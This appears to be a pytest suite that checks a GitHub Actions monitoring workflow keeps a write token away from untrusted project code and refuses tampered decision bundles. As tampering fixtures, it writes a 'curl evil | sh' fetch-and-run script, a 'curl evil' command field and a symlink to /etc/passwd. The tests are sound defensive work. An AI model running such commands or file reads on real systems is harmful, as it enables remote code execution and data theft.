"""monitor.yml split by trust, run for real.

The attack (issue 12, H2 for the monitor): the step running `gitops-ml monitor` reads rows any API
client wrote and runs the project's code; with RETRAIN_TOKEN in its environment, that code (or a
poisoned dependency, or a planted git hook) could read and use the token. Here:
- the monitor step's script runs verbatim with the environment Actions would give it (every secret
  of the workflow set to a known value) and a stand-in `gitops-ml` that dumps everything it can
  see: no token is there;
- the trusted job's step runs verbatim (real gitops-ml, real git, a bare remote, the fake GitHub)
  with hooks and an fsmonitor command planted every way git finds them and a `git` on PATH that
  logs its argv: none runs, the token is in no argv, no output and not in .git/config, and the PR
  is opened from the verified bundle;
- a bundle that was changed, extended, or made on another commit is refused and nothing is pushed.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.fixtures.git import git
from tests.flows.conftest import REPO_ROOT, update_config
from tests.forge.fake_github import FakeGitHub
from tests.workflows.conftest import (
    WORKFLOWS_DIR,
    git_argv_logger,
    load_workflow,
    plant_hooks,
    run_script,
    run_step,
    seeded_remote,
    step_env,
)

TOKEN = "ghs_retrainTOKEN0123456789abcdefSECRET"
REPOSITORY = "acme/churn"


def _workflow() -> dict[str, Any]:
    return load_workflow(WORKFLOWS_DIR / "monitor.yml")


def _step(job: str, needle: str) -> dict[str, Any]:
    return run_step("monitor.yml", job, needle)


def _step_env(
    job: str, step: dict[str, Any], secrets: dict[str, str], context: dict[str, str]
) -> dict[str, str]:
    return step_env(_workflow(), job, step, secrets, context)


def _every_secret() -> dict[str, str]:
    names = set(re.findall(r"secrets\.([A-Z0-9_]+)", (WORKFLOWS_DIR / "monitor.yml").read_text()))
    assert {"RETRAIN_TOKEN", "PREDICTION_STORE_URL"} <= names
    return {name: f"sentinel-{name}-4f1d" for name in names}


def test_the_monitor_jobs_are_split_by_trust() -> None:
    wf = _workflow()
    jobs = wf["jobs"]
    assert set(jobs) == {"monitor", "decision-pr"}
    monitor, trusted = jobs["monitor"], jobs["decision-pr"]
    assert "default_branch" in monitor["if"] and "schedule" in monitor["if"]
    assert monitor["permissions"] == {"contents": "read"}
    # the job running project code on client-written rows: the store URL and nothing else
    assert re.findall(r"secrets\.\w+", repr(monitor)) == ["secrets.PREDICTION_STORE_URL"]
    assert "RETRAIN_TOKEN" not in repr(monitor)
    # its one token is this job's own, read-only (it reads a private repository's model releases)
    assert _step("monitor", "gitops-ml monitor")["env"]["GITHUB_TOKEN"] == "${{ github.token }}"
    assert monitor["environment"] != trusted["environment"], (
        "RETRAIN_TOKEN is not in the monitor's environment"
    )
    run = _step("monitor", "gitops-ml monitor")["run"]
    assert "--bundle reports/decision-bundles" in run and "--open-pr" not in run
    # the trusted job: needs the monitor, fresh checkout of the same commit, locked install first
    assert trusted["needs"] == "monitor" and trusted["permissions"] == {"contents": "read"}
    steps = trusted["steps"]
    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["ref"] == "${{ github.sha }}" and checkout["with"]["persist-credentials"] is False
    install = next(i for i, s in enumerate(steps) if s.get("run") == "make install")
    download = next(
        i for i, s in enumerate(steps) if s.get("uses", "").startswith("actions/download-artifact@")
    )
    opens = next(i for i, s in enumerate(steps) if "gitops-ml decision-pr" in (s.get("run") or ""))
    assert install < download < opens == len(steps) - 1
    assert steps[download]["with"]["path"].startswith("${{ runner.temp }}"), "outside the checkout"
    assert '--expect-commit "$GITHUB_SHA"' in steps[opens]["run"]
    assert steps[opens]["env"]["GITHUB_TOKEN"] == "${{ secrets.RETRAIN_TOKEN }}"
    assert "GITHUB_TOKEN" not in steps[opens]["run"].replace('[ -z "$GITHUB_TOKEN" ]', "")


def test_project_code_in_the_monitor_step_finds_no_token(tmp_path: Path) -> None:
    """The monitor step's script, verbatim, with a `gitops-ml` that reads all it can reach."""
    secrets = _every_secret()
    step = _step("monitor", "gitops-ml monitor")
    context = {"github.token": "sentinel-github-token-4f1d", "runner.temp": str(tmp_path / "runner")}
    env = _step_env("monitor", step, secrets, context)
    work = tmp_path / "checkout"
    (work / ".venv" / "bin").mkdir(parents=True)
    dump = tmp_path / "seen.txt"
    spy = work / ".venv" / "bin" / "gitops-ml"
    # what code in this step can see: its environment, its argv, and the checkout's git config
    spy.write_text(
        f'#!/bin/sh\n{{ env; echo "argv: $*"; cat .git/config 2>/dev/null; }} > {dump}\n'
        "mkdir -p reports/monitor && echo report > reports/monitor/report.md\n"
    )
    spy.chmod(0o755)
    env.update(HOME=str(tmp_path / "home"), PATH=os.environ["PATH"])
    proc = run_script(step["run"], work, env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    seen = dump.read_text()
    # the dump works: the one secret this step needs is there ...
    assert secrets["PREDICTION_STORE_URL"] in seen and "--bundle reports/decision-bundles" in seen
    # ... and no secret token is: only the job's own read-only GITHUB_TOKEN
    for name, value in secrets.items():
        if name != "PREDICTION_STORE_URL":
            assert value not in seen, f"{name} reached the monitor step"
    assert f"GITHUB_TOKEN={context['github.token']}" in seen
    assert _workflow()["jobs"]["monitor"]["permissions"] == {"contents": "read"}


# -- the trusted job ---------------------------------------------------------------------------------


def _window(rows: int = 40) -> pd.DataFrame:
    """Logged inputs + late labels, customers not in the training data."""
    from gitops_ml.data.generator import generate_batches

    (frame,) = generate_batches("2026-05", 1, rows, seed=11, id_offset=5_000_000)
    return frame.drop(columns=["churned"]).assign(label=frame["churned"].to_numpy())


def _detach(checkout: Path, sha: str) -> None:
    """`ref: github.sha` leaves HEAD detached; `make install` of the same lock is the venv running
    this suite (a fork under test has none of its own)."""
    git(checkout, "checkout", "-q", "--detach", sha)
    (checkout / ".venv").symlink_to(Path(sys.prefix))


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    from tests.fixtures.projects import make_churn_project

    seed = make_churn_project(tmp_path / "seed", months=1, rows=120)
    shutil.copy(REPO_ROOT / ".gitignore", seed / ".gitignore")
    update_config(seed, "forge", {"repository": REPOSITORY})
    remote, checkout = seeded_remote(tmp_path, seed, "the default branch")
    sha = git(checkout, "rev-parse", "HEAD")
    _detach(checkout, sha)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    return {"tmp": tmp_path, "remote": remote, "checkout": checkout, "sha": sha, "home": home}


def _write_bundle(project: dict[str, Any], monkeypatch: pytest.MonkeyPatch, **overrides: Any) -> Path:
    from gitops_ml.config import load_settings
    from gitops_ml.jobs.decision_bundle import write_retraining_bundle

    monkeypatch.chdir(project["checkout"])
    settings = load_settings(Path("config"))
    out = project["tmp"] / "runner" / "decision-bundles"
    return write_retraining_bundle(
        settings,
        overrides.get("window", _window()),
        "## Model monitor: RETRAIN\n\nroc_auc fell below the baseline. cc @someone\n",
        out,
        window_end=pd.Timestamp("2026-06-01T00:00:00Z").to_pydatetime(),
        model_version="20260501T000000-abc123",
        commit=overrides.get("commit", project["sha"]),
    )


def _run_trusted_step(
    project: dict[str, Any], bundle: Path, github: FakeGitHub
) -> subprocess.CompletedProcess[str]:
    step = _step("decision-pr", "gitops-ml decision-pr")
    secrets = {"RETRAIN_TOKEN": TOKEN, "PREDICTION_STORE_URL": f"sqlite:///{project['tmp'] / 'store.db'}"}
    env = _step_env("decision-pr", step, secrets, {"runner.temp": str(bundle.parent.parent)})
    assert env["BUNDLE"] == str(bundle.parent), "the step reads the folder of bundles"
    # a `git` first on PATH that records every argv before running the real one
    bin_dir = git_argv_logger(project["tmp"])
    env.update(
        GITHUB_SHA=project["sha"],
        GITHUB_API_URL=github.api_url,
        HOME=str(project["home"]),
        PATH=f"{bin_dir}:{os.environ['PATH']}",
        GIT_CONFIG_NOSYSTEM="1",
        PREFECT_HOME=str(project["tmp"] / "prefect"),
        **project.get("env", {}),  # what the machine running the job configures (a model store)
    )
    return run_script(step["run"], project["checkout"], env, project["tmp"])


def test_the_trusted_step_opens_the_pr_and_no_planted_hook_sees_the_token(
    project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = _write_bundle(project, monkeypatch)
    marker = project["tmp"] / "hook-ran.txt"
    plant_hooks(project["checkout"], marker)
    with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}) as github:
        proc = _run_trusted_step(project, bundle, github)
        pulls = github.pulls(REPOSITORY)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert not marker.exists(), marker.read_text()
    assert TOKEN not in proc.stdout + proc.stderr
    assert TOKEN not in (project["checkout"] / ".git" / "config").read_text()
    argv = (project["tmp"] / "argv.log").read_text()
    assert "push" in argv and TOKEN not in argv
    # the PR, from the bundle's rows, mentions neutralized
    assert len(pulls) == 1 and pulls[0]["head"]["ref"].startswith("retrain/")
    assert pulls[0]["body"].startswith("## Model monitor: RETRAIN") and "cc @someone" not in pulls[0]["body"]
    branch = pulls[0]["head"]["ref"]
    files = git(project["remote"], "ls-tree", "-r", "--name-only", branch).split()
    (batch,) = [f for f in files if f.startswith("data/batches/churn-retrain-")]
    pushed = git(project["remote"], "show", f"{branch}:{batch}").splitlines()
    assert len(pushed) == 1 + 40 and pushed[0].endswith(",churned")
    changed = git(project["remote"], "diff", "--name-only", "main", branch).split()
    assert sorted(changed) == sorted([batch, "data/manifest.yaml"])


def _refused(project: dict[str, Any], bundle: Path, needle: str) -> None:
    with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}) as github:
        proc = _run_trusted_step(project, bundle, github)
        assert github.pulls(REPOSITORY) == []
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert needle in proc.stderr, proc.stderr
    assert git(project["remote"], "for-each-ref", "--format=%(refname)").split() == ["refs/heads/main"]


def test_a_bundle_changed_after_it_was_written_is_refused(
    project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = _write_bundle(project, monkeypatch)
    with (bundle / "window.csv").open("a") as handle:
        handle.write("CUST-9999999,2026-01-01,2026-05-01,3,basic,month-to-month,,north,10,30,0,100,0,1\n")
    _refused(project, bundle, "sha256 differs from bundle.json's")


def test_a_bundle_from_another_commit_is_refused(
    project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = _write_bundle(project, monkeypatch, commit="0" * 40)
    _refused(project, bundle, "is not the commit of this run")


def _rewrite(bundle: Path, **changes: Any) -> None:
    data = json.loads((bundle / "bundle.json").read_text())
    data.update(changes)
    (bundle / "bundle.json").write_text(json.dumps(data))


def test_bundle_refusals_name_the_file_and_the_rule(
    project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    from gitops_ml.config import load_settings
    from gitops_ml.jobs.decision_bundle import BundleError, read_retraining_bundle

    bundle = _write_bundle(project, monkeypatch)
    settings = load_settings(Path("config"))

    def refused(needle: str) -> None:
        with pytest.raises(BundleError, match=needle) as info:
            read_retraining_bundle(bundle, settings, expect_commit=project["sha"])
        assert info.value.exit_code == 2

    assert len(read_retraining_bundle(bundle, settings, expect_commit=project["sha"]).window) == 40
    (bundle / "extra.py").write_text("print('x')\n")
    refused(r"unexpected files in the bundle: \['extra.py'\]")
    (bundle / "extra.py").unlink()
    original = (bundle / "report.md").read_bytes()
    (bundle / "report.md").unlink()
    (bundle / "report.md").symlink_to("/etc/passwd")
    refused("report.md: not a regular file")
    (bundle / "report.md").unlink()
    (bundle / "report.md").write_bytes(original)
    _rewrite(bundle, commands=["curl evil"])
    refused("commands: Extra inputs are not permitted")
    data = json.loads((bundle / "bundle.json").read_text())
    data.pop("commands")
    (bundle / "bundle.json").write_text(json.dumps(data))
    # a column that is not the contract's (a valid hash: the column check is its own rule)
    window = _window().assign(__import__=1)
    csv = window.to_csv(index=False).encode()
    (bundle / "window.csv").write_bytes(csv)
    _rewrite(bundle, window_sha256=hashlib.sha256(csv).hexdigest())
    refused(r"columns must be the contract's inputs and 'label'; unknown: \['__import__'\]")


# -- a challenger decision through the same split ------------------------------------------------------


@pytest.fixture(scope="module")
def challenger_monitor(tmp_path_factory: pytest.TempPathFactory, prefect_harness) -> dict[str, Any]:
    """Production and a shadow challenger on the default branch; three windows in which the
    challenger is truly better; then the monitor, as the token-free step runs it (`--bundle`), with
    a token the fake GitHub would accept in its environment: it must not use it."""

    from flows.monitor import monitor_flow
    from tests.fixtures.git import GIT_IDENTITY
    from tests.flows.conftest import log_better_windows, make_challenger_repo

    tmp = tmp_path_factory.mktemp("challenger-split")
    home = tmp / "home"
    home.mkdir()
    env = {"GITOPS_ML_MODEL_STORE_URL": str(tmp / "models")}  # the machine's store, outside checkouts
    with pytest.MonkeyPatch.context() as mp:
        for key, value in {**GIT_IDENTITY, **env, "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}.items():
            mp.setenv(key, value)
        for var in ("GITHUB_TOKEN", "GH_TOKEN"):
            mp.delenv(var, raising=False)
        seed = make_challenger_repo(tmp / "seed")
        shutil.copy(REPO_ROOT / ".gitignore", seed / ".gitignore")
        update_config(seed, "forge", {"repository": REPOSITORY})
        remote, checkout = seeded_remote(tmp, seed, "the repository on GitHub")
        sha = git(seed, "rev-parse", "HEAD")
        _detach(checkout, sha)
        mp.chdir(checkout)
        store_url = f"sqlite:///{tmp / 'store.db'}"
        now, _ = log_better_windows(checkout, store_url, rows=400)
        bundles = tmp / "runner" / "decision-bundles"
        with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: remote}) as github:
            mp.setenv("GITHUB_TOKEN", TOKEN)
            mp.setenv("GITHUB_API_URL", github.api_url)
            outcome = monitor_flow(
                store_url=store_url, window="1D", now=now.isoformat(), bundle_dir=str(bundles)
            )
            pulls = github.pulls(REPOSITORY)
    return {
        "tmp": tmp,
        "remote": remote,
        "sha": sha,
        "home": home,
        "env": env,
        "outcome": outcome,
        "pulls": pulls,
        "bundle": bundles / "challenger",
    }


def test_the_token_free_monitor_writes_a_challenger_bundle_and_opens_no_pr(
    challenger_monitor: dict[str, Any],
) -> None:
    outcome = challenger_monitor["outcome"]
    assert outcome.challenger is not None and outcome.challenger.action == "promote"
    assert outcome.challenger_pr is None and challenger_monitor["pulls"] == []
    refs = git(challenger_monitor["remote"], "for-each-ref", "--format=%(refname)").split()
    assert refs == ["refs/heads/main"], "nothing pushed"
    bundle = challenger_monitor["bundle"]
    assert outcome.challenger_bundle == str(bundle)
    assert sorted(p.name for p in bundle.iterdir()) == ["bundle.json", "decision.json", "report.md"]
    assert sorted(p.name for p in bundle.parent.iterdir()) == ["challenger"], "no retraining was decided"
    meta = json.loads((bundle / "bundle.json").read_text())
    assert meta["kind"] == "challenger" and meta["action"] == "promote"
    assert meta["commit"] == challenger_monitor["sha"]
    assert meta["challenger_version"] == outcome.challenger.challenger_version
    decision = json.loads((bundle / "decision.json").read_text())
    assert [w["outcome"] for w in decision["windows"]] == ["better"] * 3
    assert "## Challenger" in (bundle / "report.md").read_text()


def _trusted(challenger_monitor: dict[str, Any], tmp_path: Path) -> tuple[dict[str, Any], Path]:
    """A fresh remote (as GitHub holds it), a fresh checkout of the commit, a copy of the bundles."""
    remote = tmp_path / "origin.git"
    shutil.copytree(challenger_monitor["remote"], remote, symlinks=True)
    checkout = tmp_path / "checkout"
    git(tmp_path, "clone", "-q", str(remote), str(checkout))
    _detach(checkout, challenger_monitor["sha"])
    bundles = tmp_path / "runner" / "decision-bundles"
    shutil.copytree(challenger_monitor["bundle"].parent, bundles)
    project = {**challenger_monitor, "tmp": tmp_path, "remote": remote, "checkout": checkout}
    return project, bundles / "challenger"


def test_the_trusted_step_opens_one_challenger_pr_and_a_second_run_updates_it(
    challenger_monitor: dict[str, Any], tmp_path: Path
) -> None:
    project, bundle = _trusted(challenger_monitor, tmp_path)
    version = challenger_monitor["outcome"].challenger.challenger_version
    with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}) as github:
        first = _run_trusted_step(project, bundle, github)
        assert first.returncode == 0, first.stdout + first.stderr
        second = _run_trusted_step(project, bundle, github)
        assert second.returncode == 0, second.stdout + second.stderr
        pulls = github.pulls(REPOSITORY)
        comments = github.comments(pulls[0]["number"], REPOSITORY) if pulls else []
    assert "challenger PR: opened" in first.stdout and "challenger PR: updated" in second.stdout
    assert "retraining PR" not in first.stdout + second.stdout
    assert len(pulls) == 1, "updated, never duplicated"
    pr = pulls[0]
    assert pr["head"]["ref"].startswith("challenger/promote-")
    assert pr["title"].startswith(f"Promote challenger {version}")
    assert "## Challenger" in pr["body"] and len(comments) == 1
    branch = pr["head"]["ref"]
    changed = sorted(git(project["remote"], "diff", "--name-only", "main", branch).split())
    assert changed == ["deploy/challenger.yaml", "deploy/history.yaml", "deploy/production.yaml"]
    pointer = git(project["remote"], "show", f"{branch}:deploy/production.yaml")
    assert f"version: {version}" in pointer
    assert TOKEN not in first.stdout + first.stderr + second.stdout + second.stderr


def _tamper_json(name: str, **changes: Any):
    def tamper(bundle: Path) -> None:
        data = json.loads((bundle / name).read_text())
        data.update(changes)
        (bundle / name).write_text(json.dumps(data))

    return tamper


def _tamper_decision_text(bundle: Path) -> None:
    path = bundle / "decision.json"
    path.write_text(path.read_text().replace("better than production", "far better than production"))


def _extra_file(bundle: Path) -> None:
    (bundle / "run.sh").write_text("curl evil | sh\n")


def _escaping_report(bundle: Path) -> None:
    (bundle / "report.md").unlink()
    (bundle / "report.md").symlink_to("../../../../../../etc/passwd")


def _escaping_folder(bundle: Path) -> None:
    target = bundle.parent.parent / "elsewhere"
    bundle.rename(target)
    bundle.symlink_to(target)


@pytest.mark.parametrize(
    ("tamper", "needle"),
    [
        (_tamper_decision_text, "decision.json: sha256 differs from bundle.json's"),
        (_tamper_json("bundle.json", kind="deploy"), "does not match any of the expected tags"),
        (_tamper_json("bundle.json", action="rollback"), "action: Input should be 'promote' or 'retire'"),
        (_tamper_json("bundle.json", pointer_sha256="0" * 64), "pointer_sha256 is not the sha256 of"),
        (_tamper_json("bundle.json", challenger_version="v-other"), "challenger_version 'v-other' is not"),
        (_tamper_json("bundle.json", commit="1" * 40), "is not the commit of this run"),
        (_extra_file, "unexpected files in the bundle: ['run.sh']"),
        (_escaping_report, "report.md: not a regular file"),
        (_escaping_folder, "challenger: not a folder"),
    ],
    ids=["sha256", "kind", "action", "pointer", "version", "commit", "extra-file", "symlink", "folder-link"],
)
def test_a_tampered_challenger_bundle_exits_2_and_opens_nothing(
    challenger_monitor: dict[str, Any], tmp_path: Path, tamper: Any, needle: str
) -> None:
    project, bundle = _trusted(challenger_monitor, tmp_path)
    tamper(bundle)
    _refused(project, bundle, needle)


def test_the_trusted_step_promotes_from_the_pointers_alone_with_no_artifact_in_reach(
    challenger_monitor: dict[str, Any], tmp_path: Path
) -> None:
    """The step holding RETRAIN_TOKEN downloads and loads no model: with the model store gone, the
    promote PR still opens, production's pointer being the challenger pointer's own fields."""
    import yaml

    project, bundle = _trusted(challenger_monitor, tmp_path)
    store = challenger_monitor["tmp"] / "models"
    challenger = yaml.safe_load((project["checkout"] / "deploy" / "challenger.yaml").read_text())
    hidden = challenger_monitor["tmp"] / "models-hidden"
    assert challenger["artifact_uri"].startswith(str(store)), "the artifact lives in the store moved away"
    store.rename(hidden)  # the module's store: put back below, whatever happens
    try:
        with FakeGitHub(
            token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}
        ) as github:
            proc = _run_trusted_step(project, bundle, github)
            pulls = github.pulls(REPOSITORY)
    finally:
        hidden.rename(store)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert len(pulls) == 1 and pulls[0]["head"]["ref"].startswith("challenger/promote-")
    branch = pulls[0]["head"]["ref"]
    pointer = yaml.safe_load(git(project["remote"], "show", f"{branch}:deploy/production.yaml"))
    copied = (
        "version",
        "artifact_uri",
        "sha256",
        "metrics",
        "commit",
        "data_hash",
        "config_hash",
        "metadata_uri",
    )
    assert {k: pointer[k] for k in copied} == {k: challenger[k] for k in copied}
    history = yaml.safe_load(git(project["remote"], "show", f"{branch}:deploy/history.yaml"))
    assert history[-1]["version"] == challenger["version"]
    files = git(project["remote"], "ls-tree", "-r", "--name-only", branch).split()
    assert "deploy/challenger.yaml" not in files


def test_a_challenger_changed_on_the_default_branch_after_the_judgement_is_not_promoted(
    challenger_monitor: dict[str, Any], tmp_path: Path
) -> None:
    """The bundle matches the commit the monitor ran on, but the decision branch starts from the
    default branch as it is now: there a new challenger file (not the one judged) must not be
    promoted. Exit 2, nothing pushed, no PR."""
    project, bundle = _trusted(challenger_monitor, tmp_path)
    other = tmp_path / "someone-else"
    git(tmp_path, "clone", "-q", str(project["remote"]), str(other))
    path = other / "deploy" / "challenger.yaml"
    judged = path.read_text()
    path.write_text(judged.replace("min_paired_rows: ", "min_paired_rows: 1"))
    assert path.read_text() != judged
    git(other, "commit", "-qam", "a stricter policy for the challenger")
    git(other, "push", "-q", "origin", "HEAD:main")
    main_before = git(project["remote"], "rev-parse", "main")
    _refused(project, bundle, "is not the judged file's")
    assert git(project["remote"], "rev-parse", "main") == main_before
